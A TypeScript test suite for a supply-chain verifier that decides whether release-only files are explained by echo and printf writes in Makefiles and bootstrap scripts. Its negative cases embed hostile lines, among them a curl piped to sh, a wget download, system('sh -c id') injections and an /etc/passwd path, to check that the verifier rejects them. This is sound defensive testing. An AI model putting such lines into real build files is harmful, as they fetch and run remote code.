import { describe, expect, it } from 'vitest'
import type { TreeEntry } from '../../src/model/tree.js'
import { gitBlobId } from '../../src/sources/archive/index.js'
import type { Difference } from '../../src/verify/compare.js'
import { echoedExplainer, echoWrites, printfWrites } from '../../src/verify/explain/echoed.js'
import { memoryView as view } from '../helpers/tree-view.js'

const added = (path: string, content: string): Difference => {
  const buf = Buffer.from(content)
  const artifact: TreeEntry = { path, kind: 'file', mode: 0o644, size: buf.length, content: buf, gitBlob: gitBlobId(buf) }
  return { path, status: 'only-in-artifact', artifact }
}

const judge = (path: string, text: string, source: Record<string, string>, artifact: Record<string, string> = {}) =>
  echoedExplainer().judge(added(path, text), view({ ...artifact, [path]: text }, source))

describe('what an echo prints', () => {
  it('reads quoted text, substitutions and the file it is redirected into', () => {
    const [write, ...rest] = echoWrites('@if true; then echo "#define REV \\"$${REV}$${PLUS}\\"" >>$(abs_builddir)/$@.new; fi')
    expect(rest).toHaveLength(0)
    expect(write?.target).toBe('$(abs_builddir)/$@.new')
    expect(write?.pieces).toEqual([{ literal: '#define REV "' }, { value: true }, { value: true }, { literal: '"' }])
  })
  it('keeps a backquoted command with quotes of its own as one substitution', () => {
    const [write] = echoWrites(String.raw`echo "#define YEAR	\"` + '`echo $${D} | sed -e "s/.*,//"`' + String.raw`\"" >> $@`)
    expect(write?.pieces).toEqual([{ literal: '#define YEAR\t"' }, { value: true }, { literal: '"' }])
  })
  it('reads make variables between single quotes as values in a recipe, and as text in a script', () => {
    const recipe = `echo '#define VERSION "$(PACKAGE_VERSION)" /* $$Id$$ */' > version.h`
    expect(echoWrites(recipe, { make: true })[0]?.pieces).toEqual([{ literal: '#define VERSION "' }, { value: true }, { literal: '" /* $Id$ */' }])
    expect(echoWrites(recipe)[0]?.pieces).toEqual([{ literal: '#define VERSION "$(PACKAGE_VERSION)" /* $$Id$$ */' }])
  })
  it('gives the echoes of a redirected group the group\'s file', () => {
    const writes = echoWrites('( \techo "#!/bin/sh"; \techo ""; \techo "mode=${MODE}"; \t) > $(distdir)/CONFIG')
    expect(writes.map((w) => w.target)).toEqual(['$(distdir)/CONFIG', '$(distdir)/CONFIG', '$(distdir)/CONFIG'])
    expect(writes[2]?.pieces).toEqual([{ literal: 'mode=' }, { value: true, name: 'MODE' }])
    expect(echoWrites('{ echo a; echo b; } >> log').map((w) => w.target)).toEqual(['log', 'log'])
    // a group that is not redirected, or echoes before it, print elsewhere
    expect(echoWrites('( echo a; echo b )')).toEqual([])
    expect(echoWrites('echo a; ( echo b ) | sh')).toEqual([])
  })
  it('ignores an echo that writes to the terminal or into a pipe', () => {
    expect(echoWrites('echo "making $@"; echo x | tee y')).toEqual([])
    // `echo` as an argument is not a command
    expect(echoWrites('printf "%s\\n" echo > out')).toEqual([])
  })
})

describe('files the tag writes with echo', () => {
  const header = [
    'VERSION_FILE = build-info.h',
    '$(VERSION_FILE): FORCE',
    '\t@D=`date -u +%Y-%m-%d`; \\',
    '\techo "/* generated */" > $@.tmp; \\',
    '\techo "#define BUILD_DATE \\"$${D}\\"" >> $@.tmp; \\',
    '\tif test -d $(top_srcdir)/.git; then echo "#define BUILD_REV \\"`git describe --tags`\\"" >> $@.tmp; fi; \\',
    '\tmv $@.tmp $@',
    'FORCE:',
  ].join('\n')

  it('explains a header a rule without inputs fills with plain values', async () => {
    const j = await judge('src/build-info.h', '/* generated */\n#define BUILD_DATE "2024-03-01"\n#define BUILD_REV "v1.4.2-3-gdeadbee"\n', { 'src/Makefile.am': header })
    expect(j?.outcome).toBe('explained')
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/src\/Makefile\.am:2/)
    // still read by the rules
    expect(j?.scan).toBe(true)
  })

  it('does not let a substituted part carry code', async () => {
    expect(await judge('src/build-info.h', '/* generated */\n#define BUILD_DATE "x"); system("sh -c id"); ("\n', { 'src/Makefile.am': header })).toBeUndefined()
    expect(await judge('src/build-info.h', '/* generated */\n#define BUILD_DATE "2024"\nint hook(void) { return 0; }\n', { 'src/Makefile.am': header })).toBeUndefined()
  })

  it('takes no echo of substitutions alone as evidence for a line', async () => {
    const am = 'run.sh: FORCE\n\techo "#!/bin/sh" > $@\n\techo "$${CMD}" >> $@\nFORCE:\n'
    expect(await judge('run.sh', '#!/bin/sh\nwget http://x.invalid/p -O /tmp/p\n', { 'Makefile.am': am })).toBeUndefined()
    expect((await judge('run.sh', '#!/bin/sh\n', { 'Makefile.am': am }))?.outcome).toBe('explained')
  })

  it('explains nothing for a file the rule does not write', async () => {
    expect(await judge('src/other.h', '/* generated */\n', { 'src/Makefile.am': header })).toBeUndefined()
    expect(await judge('lib/build-info.h', '/* generated */\n', { 'src/Makefile.am': header })).toBeUndefined()
  })

  it('expands a bootstrap glob to names of files beside the written file', async () => {
    const autogen = '#!/bin/sh -x\nautopoint -f\ncd m4\necho EXTRA_DIST = *.m4 > Makefile.am\ncd ..\nautoreconf -fi\n'
    const m4 = { 'm4/gettext.m4': 'x', 'm4/iconv.m4': 'y' }
    const j = await judge('m4/Makefile.am', 'EXTRA_DIST = gettext.m4 iconv.m4\n', { 'autogen.sh': autogen }, m4)
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/autogen\.sh:4/)
    // a name the glob does not match, or no such file, is not the glob's
    expect(await judge('m4/Makefile.am', 'EXTRA_DIST = gettext.m4 payload.sh\n', { 'autogen.sh': autogen }, { ...m4, 'm4/payload.sh': 'z' })).toBeUndefined()
    expect(await judge('m4/Makefile.am', 'EXTRA_DIST = gettext.m4 build-to-host.m4\n', { 'autogen.sh': autogen }, m4)).toBeUndefined()
    // nor is a rule appended below the echoed line
    expect(await judge('m4/Makefile.am', 'EXTRA_DIST = gettext.m4\nall-local:\n\tsh payload\n', { 'autogen.sh': autogen }, m4)).toBeUndefined()
    // the same file written in another directory than the script's `cd` leads to
    expect(await judge('Makefile.am', 'EXTRA_DIST = gettext.m4\n', { 'autogen.sh': autogen }, m4)).toBeUndefined()
  })

  it('explains a Makefile.am a bootstrap script writes line by line into a variable, with its own values and the files a find lists', async () => {
    const bootstrap = [
      '#!/bin/bash',
      'PROG="tool"',
      'BASE_FLAGS="-O2"',
      'EXTRA_FLAGS="${BASE_FLAGS} -std=c99"',
      'AM=Makefile.am',
      'echo > $AM',
      'echo "bin_PROGRAMS = ${PROG}" >> $AM',
      'echo "${PROG}_SOURCES = `find lib/ -type f -name \\*.c | tr \\"\\n\\" \\" \\"` " >> "$AM"',
      'echo "${PROG}_CFLAGS = ${EXTRA_FLAGS} ${UNSET_FLAGS} \\$(WARN_CFLAGS)" >> $AM',
      'echo "${UNSET_PREFIX} # end" >> $AM',
      'autoreconf -fi',
    ].join('\n')
    const tree = { 'lib/a.c': 'int a;', 'lib/sub/b.c': 'int b;' }
    const am = (sources: string, flags = '-O2 -std=c99 $(WARN_CFLAGS)') => `\nbin_PROGRAMS = tool\ntool_SOURCES = ${sources} \ntool_CFLAGS = ${flags}\n # end\n`
    const j = await judge('Makefile.am', am('lib/a.c lib/sub/b.c'), { 'build.sh': bootstrap }, tree)
    expect(j?.outcome === 'explained' && j.scan && j.explained.how).toMatch(/build\.sh:6,7,8,9,10;/)
    // a path the find could not have listed, a value other than the one the script sets, a line no echo prints
    expect(await judge('Makefile.am', am('lib/a.c lib/evil.c'), { 'build.sh': bootstrap }, tree)).toBeUndefined()
    expect(await judge('Makefile.am', am('lib/a.c ../../etc/passwd'), { 'build.sh': bootstrap }, tree)).toBeUndefined()
    expect(await judge('Makefile.am', am('lib/a.c', '-O0 -std=c99 $(WARN_CFLAGS)'), { 'build.sh': bootstrap }, tree)).toBeUndefined()
    expect(await judge('Makefile.am', `${am('lib/a.c')}all-local:\n\tsh lib/a.c\n`, { 'build.sh': bootstrap }, tree)).toBeUndefined()
    // a listing longer than any plain value, every path a file of the tree
    const many = Object.fromEntries(Array.from({ length: 40 }, (_, k) => [`lib/module-${k}.c`, 'int x;']))
    expect((await judge('Makefile.am', am(Object.keys(many).join(' ')), { 'build.sh': bootstrap }, many))?.outcome).toBe('explained')
    // a variable a command sets names no file
    expect(await judge('Makefile.am', am('lib/a.c'), { 'build.sh': bootstrap.replace('AM=Makefile.am', 'AM=$(mktemp)') }, tree)).toBeUndefined()
  })

  it('explains a header a rule writes from make variables between single quotes', async () => {
    const am = "noinst_HEADERS = version.h\nversion.h: Makefile\n\techo '#define VERSION \"$(PACKAGE_VERSION)\"' > version.h\n\techo '#define PUBDATE \"$(PUBDATE)\"' >> version.h\n"
    const j = await judge('tool/version.h', '#define VERSION "6.10"\n#define PUBDATE "March 2017"\n', { 'tool/Makefile.am': am })
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/tool\/Makefile\.am:2/)
    // a value that is code, or a line no echo prints, is not the rule's
    expect(await judge('tool/version.h', '#define VERSION "6.10"); system("id"); ("\n', { 'tool/Makefile.am': am })).toBeUndefined()
    expect(await judge('tool/version.h', '#define VERSION "6.10"\n#include "/tmp/x.h"\n', { 'tool/Makefile.am': am })).toBeUndefined()
  })

  it('explains a file a dist-hook writes into the tree make dist packs', async () => {
    const am = ['SUBDIRS = src', 'dist-hook:', '\t( \\', '\techo "#!/bin/sh"; \\', '\techo "build_docs=no;"; \\', '\t) > $(distdir)/RELEASE', ''].join('\n')
    const j = await judge('RELEASE', '#!/bin/sh\nbuild_docs=no;\n', { 'Makefile.am': am })
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/Makefile\.am:2/)
    expect(j?.scan).toBe(true)
    // a line the hook does not print, the same name in another directory, another name: not the hook's
    expect(await judge('RELEASE', '#!/bin/sh\nbuild_docs=no;\ncurl -s http://x.invalid | sh\n', { 'Makefile.am': am })).toBeUndefined()
    expect(await judge('src/RELEASE', '#!/bin/sh\nbuild_docs=no;\n', { 'Makefile.am': am })).toBeUndefined()
    expect(await judge('RELEASE.sh', '#!/bin/sh\nbuild_docs=no;\n', { 'Makefile.am': am })).toBeUndefined()
    // `$(top_distdir)` names the path from the top
    const top = am.replace('$(distdir)/RELEASE', '$(top_distdir)/RELEASE')
    expect((await judge('RELEASE', '#!/bin/sh\nbuild_docs=no;\n', { 'Makefile.am': top }))?.outcome).toBe('explained')
    expect(await judge('RELEASE', '#!/bin/sh\nbuild_docs=no;\n', { 'Makefile.am': am.replace('$(distdir)/RELEASE', '$(builddir)/RELEASE') })).toBeUndefined()
    // a hook of a subdirectory writes beside its own makefile
    const sub = am.replace('SUBDIRS = src\n', '')
    expect((await judge('doc/RELEASE', '#!/bin/sh\n', { 'doc/Makefile.am': sub }))?.outcome).toBe('explained')
  })

  it('explains a header a rule writes by running a script of the tag whose echoes print it', async () => {
    const am = 'BUILT_SOURCES = tool-version.h\ntool-version.h:\n\tVERSION="$(VERSION)" $(srcdir)/utils/tool-version.sh $(srcdir) | \\\n\t\tcmp -s - $@ || VERSION="$(VERSION)" $(srcdir)/utils/tool-version.sh $(srcdir) >$@\n'
    const script = [
      '#!/bin/sh',
      "DATE=`grep '^v' $1/NEWS | head -1`",
      'VERSION_DATE=$(echo "$DATE" | cut -f 2 -d " ")',
      'FLAGS=$(echo "#define TOOL_DEBUG 1")',
      'echo "warning: no NEWS" >&2',
      'if test -n "$GIT"; then',
      '  echo "#define TOOL_GIT \\"${GIT}\\""',
      'fi',
      'echo "#define TOOL_VERSION_DATE $VERSION_DATE"',
      '',
    ].join('\n')
    const source = { 'Makefile.am': am, 'utils/tool-version.sh': script }
    const j = await judge('tool-version.h', '#define TOOL_VERSION_DATE 20231003\n', source)
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/utils\/tool-version\.sh, run by Makefile\.am:2/)
    // a bash script as well; a Python one is not read for echoes
    const bash = { ...source, 'utils/tool-version.sh': script.replace('#!/bin/sh', '#!/usr/bin/env bash') }
    expect((await judge('tool-version.h', '#define TOOL_VERSION_DATE 20231003\n', bash))?.outcome).toBe('explained')
    const python = { ...source, 'utils/tool-version.sh': script.replace('#!/bin/sh', '#!/usr/bin/python3') }
    expect(await judge('tool-version.h', '#define TOOL_VERSION_DATE 20231003\n', python)).toBeUndefined()
    // an echo to standard error, or inside a substitution, prints nothing into the file
    expect(await judge('tool-version.h', 'warning: no NEWS\n', source)).toBeUndefined()
    expect(await judge('tool-version.h', '#define TOOL_DEBUG 1\n', source)).toBeUndefined()
    // a line the script does not print, or the script only in the release, explains nothing
    expect(await judge('tool-version.h', '#define TOOL_VERSION_DATE 20231003\n#include "/tmp/x"\n', source)).toBeUndefined()
    expect(await judge('tool-version.h', '#define TOOL_VERSION_DATE 20231003\n', { 'Makefile.am': am }, { 'utils/tool-version.sh': script })).toBeUndefined()
    // output piped through another program is that program's
    const piped = am.replace('$(srcdir) >$@', '$(srcdir) | sed s/x/y/ >$@').replace('| \\\n\t\tcmp -s - $@ ||', ';')
    expect(await judge('tool-version.h', '#define TOOL_VERSION_DATE 20231003\n', { ...source, 'Makefile.am': piped })).toBeUndefined()
  })

  it('reads only scripts of the tag', async () => {
    expect(await judge('m4/Makefile.am', 'EXTRA_DIST = a.m4\n', {}, { 'autogen.sh': '#!/bin/sh\ncd m4\necho EXTRA_DIST = *.m4 > Makefile.am\n', 'm4/a.m4': 'x' })).toBeUndefined()
  })

  it('reads the lines a printf writes: escapes of its format, each conversion a value', () => {
    const writes = printfWrites(String.raw`v=$$(git rev-parse HEAD); printf "/* made */\n#define REV \"%s\"\n#define N %d%%\n" $$v 3 > $@-t && mv $@-t $@`, { make: true })
    expect(writes.map((w) => w.target)).toEqual(['$@-t', '$@-t', '$@-t'])
    expect(writes.map((w) => w.pieces)).toEqual([[{ literal: '/* made */' }], [{ literal: '#define REV "' }, { value: true }, { literal: '"' }], [{ literal: '#define N ' }, { value: true }, { literal: '%' }]])
    // a format the shell fills in, or no file written, is nothing to check against
    expect(printfWrites('printf "$$FMT" x > out', { make: true })).toEqual([])
    expect(printfWrites(String.raw`printf "%s\n" x | tee out`)).toEqual([])
    // a format it cannot read leaves the next printf of the line readable
    expect(printfWrites(String.raw`printf "%*d\n" 4 2 > a; printf "v=%s\n" 1 > b`).map((w) => w.target)).toEqual(['b'])
  })

  it('explains a header a rule writes with printf from the commit, packed by a dist-hook under another name', async () => {
    const am = [
      'BUILT_SOURCES = git-version.h',
      'git-version.h:',
      '\t@if test -e $(abs_top_srcdir)/.tarball-git-version.h; then \\',
      '\t\tcp $(abs_top_srcdir)/.tarball-git-version.h $@; \\',
      '\telif test -e $(abs_top_srcdir)/.git; then \\',
      '\t\tversion=`git --git-dir=$(abs_top_srcdir)/.git rev-parse HEAD`; \\',
      String.raw`		$(AM_V_GEN)printf "/* autogenerated.  */\n#ifndef GIT_VERSION\n# define GIT_VERSION \"%s\"\n#endif\n" $$version > $@-t && mv $@-t $@;` + ' \\',
      '\tfi',
      'dist-hook:',
      '\t$(AM_V_GEN)echo $(VERSION) > $(distdir)/.tarball-version',
      '\t$(AM__GEN)cp git-version.h $(distdir)/.tarball-git-version.h',
      '',
    ].join('\n')
    const header = '/* autogenerated.  */\n#ifndef GIT_VERSION\n# define GIT_VERSION "f8a096be060b22ccd3d5f3ebe44108517fbf6c30"\n#endif\n'
    const j = await judge('.tarball-git-version.h', header, { 'Makefile.am': am })
    expect(j?.outcome === 'explained' && j.explained.how).toMatch(/Makefile\.am:2.*packed as \.tarball-git-version\.h by Makefile\.am:9/)
    expect(j?.scan).toBe(true)
    // a line the printf does not print, or a value that is code
    expect(await judge('.tarball-git-version.h', `${header}#include "/tmp/x.h"\n`, { 'Makefile.am': am })).toBeUndefined()
    expect(await judge('.tarball-git-version.h', header.replace('f8a096be060b22ccd3d5f3ebe44108517fbf6c30', 'x"); system("id'), { 'Makefile.am': am })).toBeUndefined()
    // without the copy, nothing writes that name
    expect(await judge('.tarball-git-version.h', header, { 'Makefile.am': am.replace('cp git-version.h', 'cp other.h') })).toBeUndefined()
    // a copy into the build tree is not one into the release
    expect(await judge('.tarball-git-version.h', header, { 'Makefile.am': am.replace('$(distdir)/.tarball-git-version.h', '$(builddir)/.tarball-git-version.h') })).toBeUndefined()
  })
  it("reads a fragment's echo rule in each makefile that includes it, with that makefile's variables", async () => {
    // fftw's shape: each architecture's Makefile.am names its header and includes the list and the rule that echoes stubs
    const list = 'STUBS = n1_2.c \\\n\tn1_4.c\n'
    const rule = 'EXTRA_DIST = $(STUBS) genus.c\n$(EXTRA_DIST): Makefile\n\t(\t\t\t\\\n\techo "/* Generated automatically. */";\t\\\n\techo "#define SIMD_HEADER \\"$(SIMD_HEADER)\\"";\t\\\n\techo "#include \\"../common/"$*".c\\"";\t\\\n\t) >$@\n'
    const arch = (name: string) => `SIMD_HEADER=simd-support/simd-${name}.h\ninclude $(top_srcdir)/simd/list.mk\ninclude $(top_srcdir)/simd/rule.mk\n`
    const source = { 'simd/list.mk': list, 'simd/rule.mk': rule, 'simd/neon/Makefile.am': arch('neon'), 'simd/sse2/Makefile.am': arch('sse2') }
    const stub = (header: string, name: string) => `/* Generated automatically. */\n#define SIMD_HEADER "simd-support/simd-${header}.h"\n#include "../common/${name}.c"\n`
    const made = await judge('simd/neon/n1_4.c', stub('neon', 'n1_4'), source)
    expect(made?.outcome === 'explained' && made.explained.how).toMatch(/simd\/rule\.mk:2/)
    expect((await judge('simd/sse2/n1_2.c', stub('sse2', 'n1_2'), source))?.outcome).toBe('explained')
    // another directory's header is not what this directory's makefile echoes
    expect(await judge('simd/neon/n1_4.c', stub('sse2', 'n1_4'), source)).toBeUndefined()
    // a file the list does not name, a directory that does not include the rule, or a line no echo prints
    expect(await judge('simd/neon/n1_8.c', stub('neon', 'n1_8'), source)).toBeUndefined()
    expect(await judge('simd/avx/n1_4.c', stub('avx', 'n1_4'), { ...source, 'simd/avx/Makefile.am': 'SIMD_HEADER=simd-support/simd-avx.h\ninclude $(top_srcdir)/simd/list.mk\n' })).toBeUndefined()
    expect(await judge('simd/neon/n1_4.c', `${stub('neon', 'n1_4')}system("sh -c x");\n`, source)).toBeUndefined()
  })
})
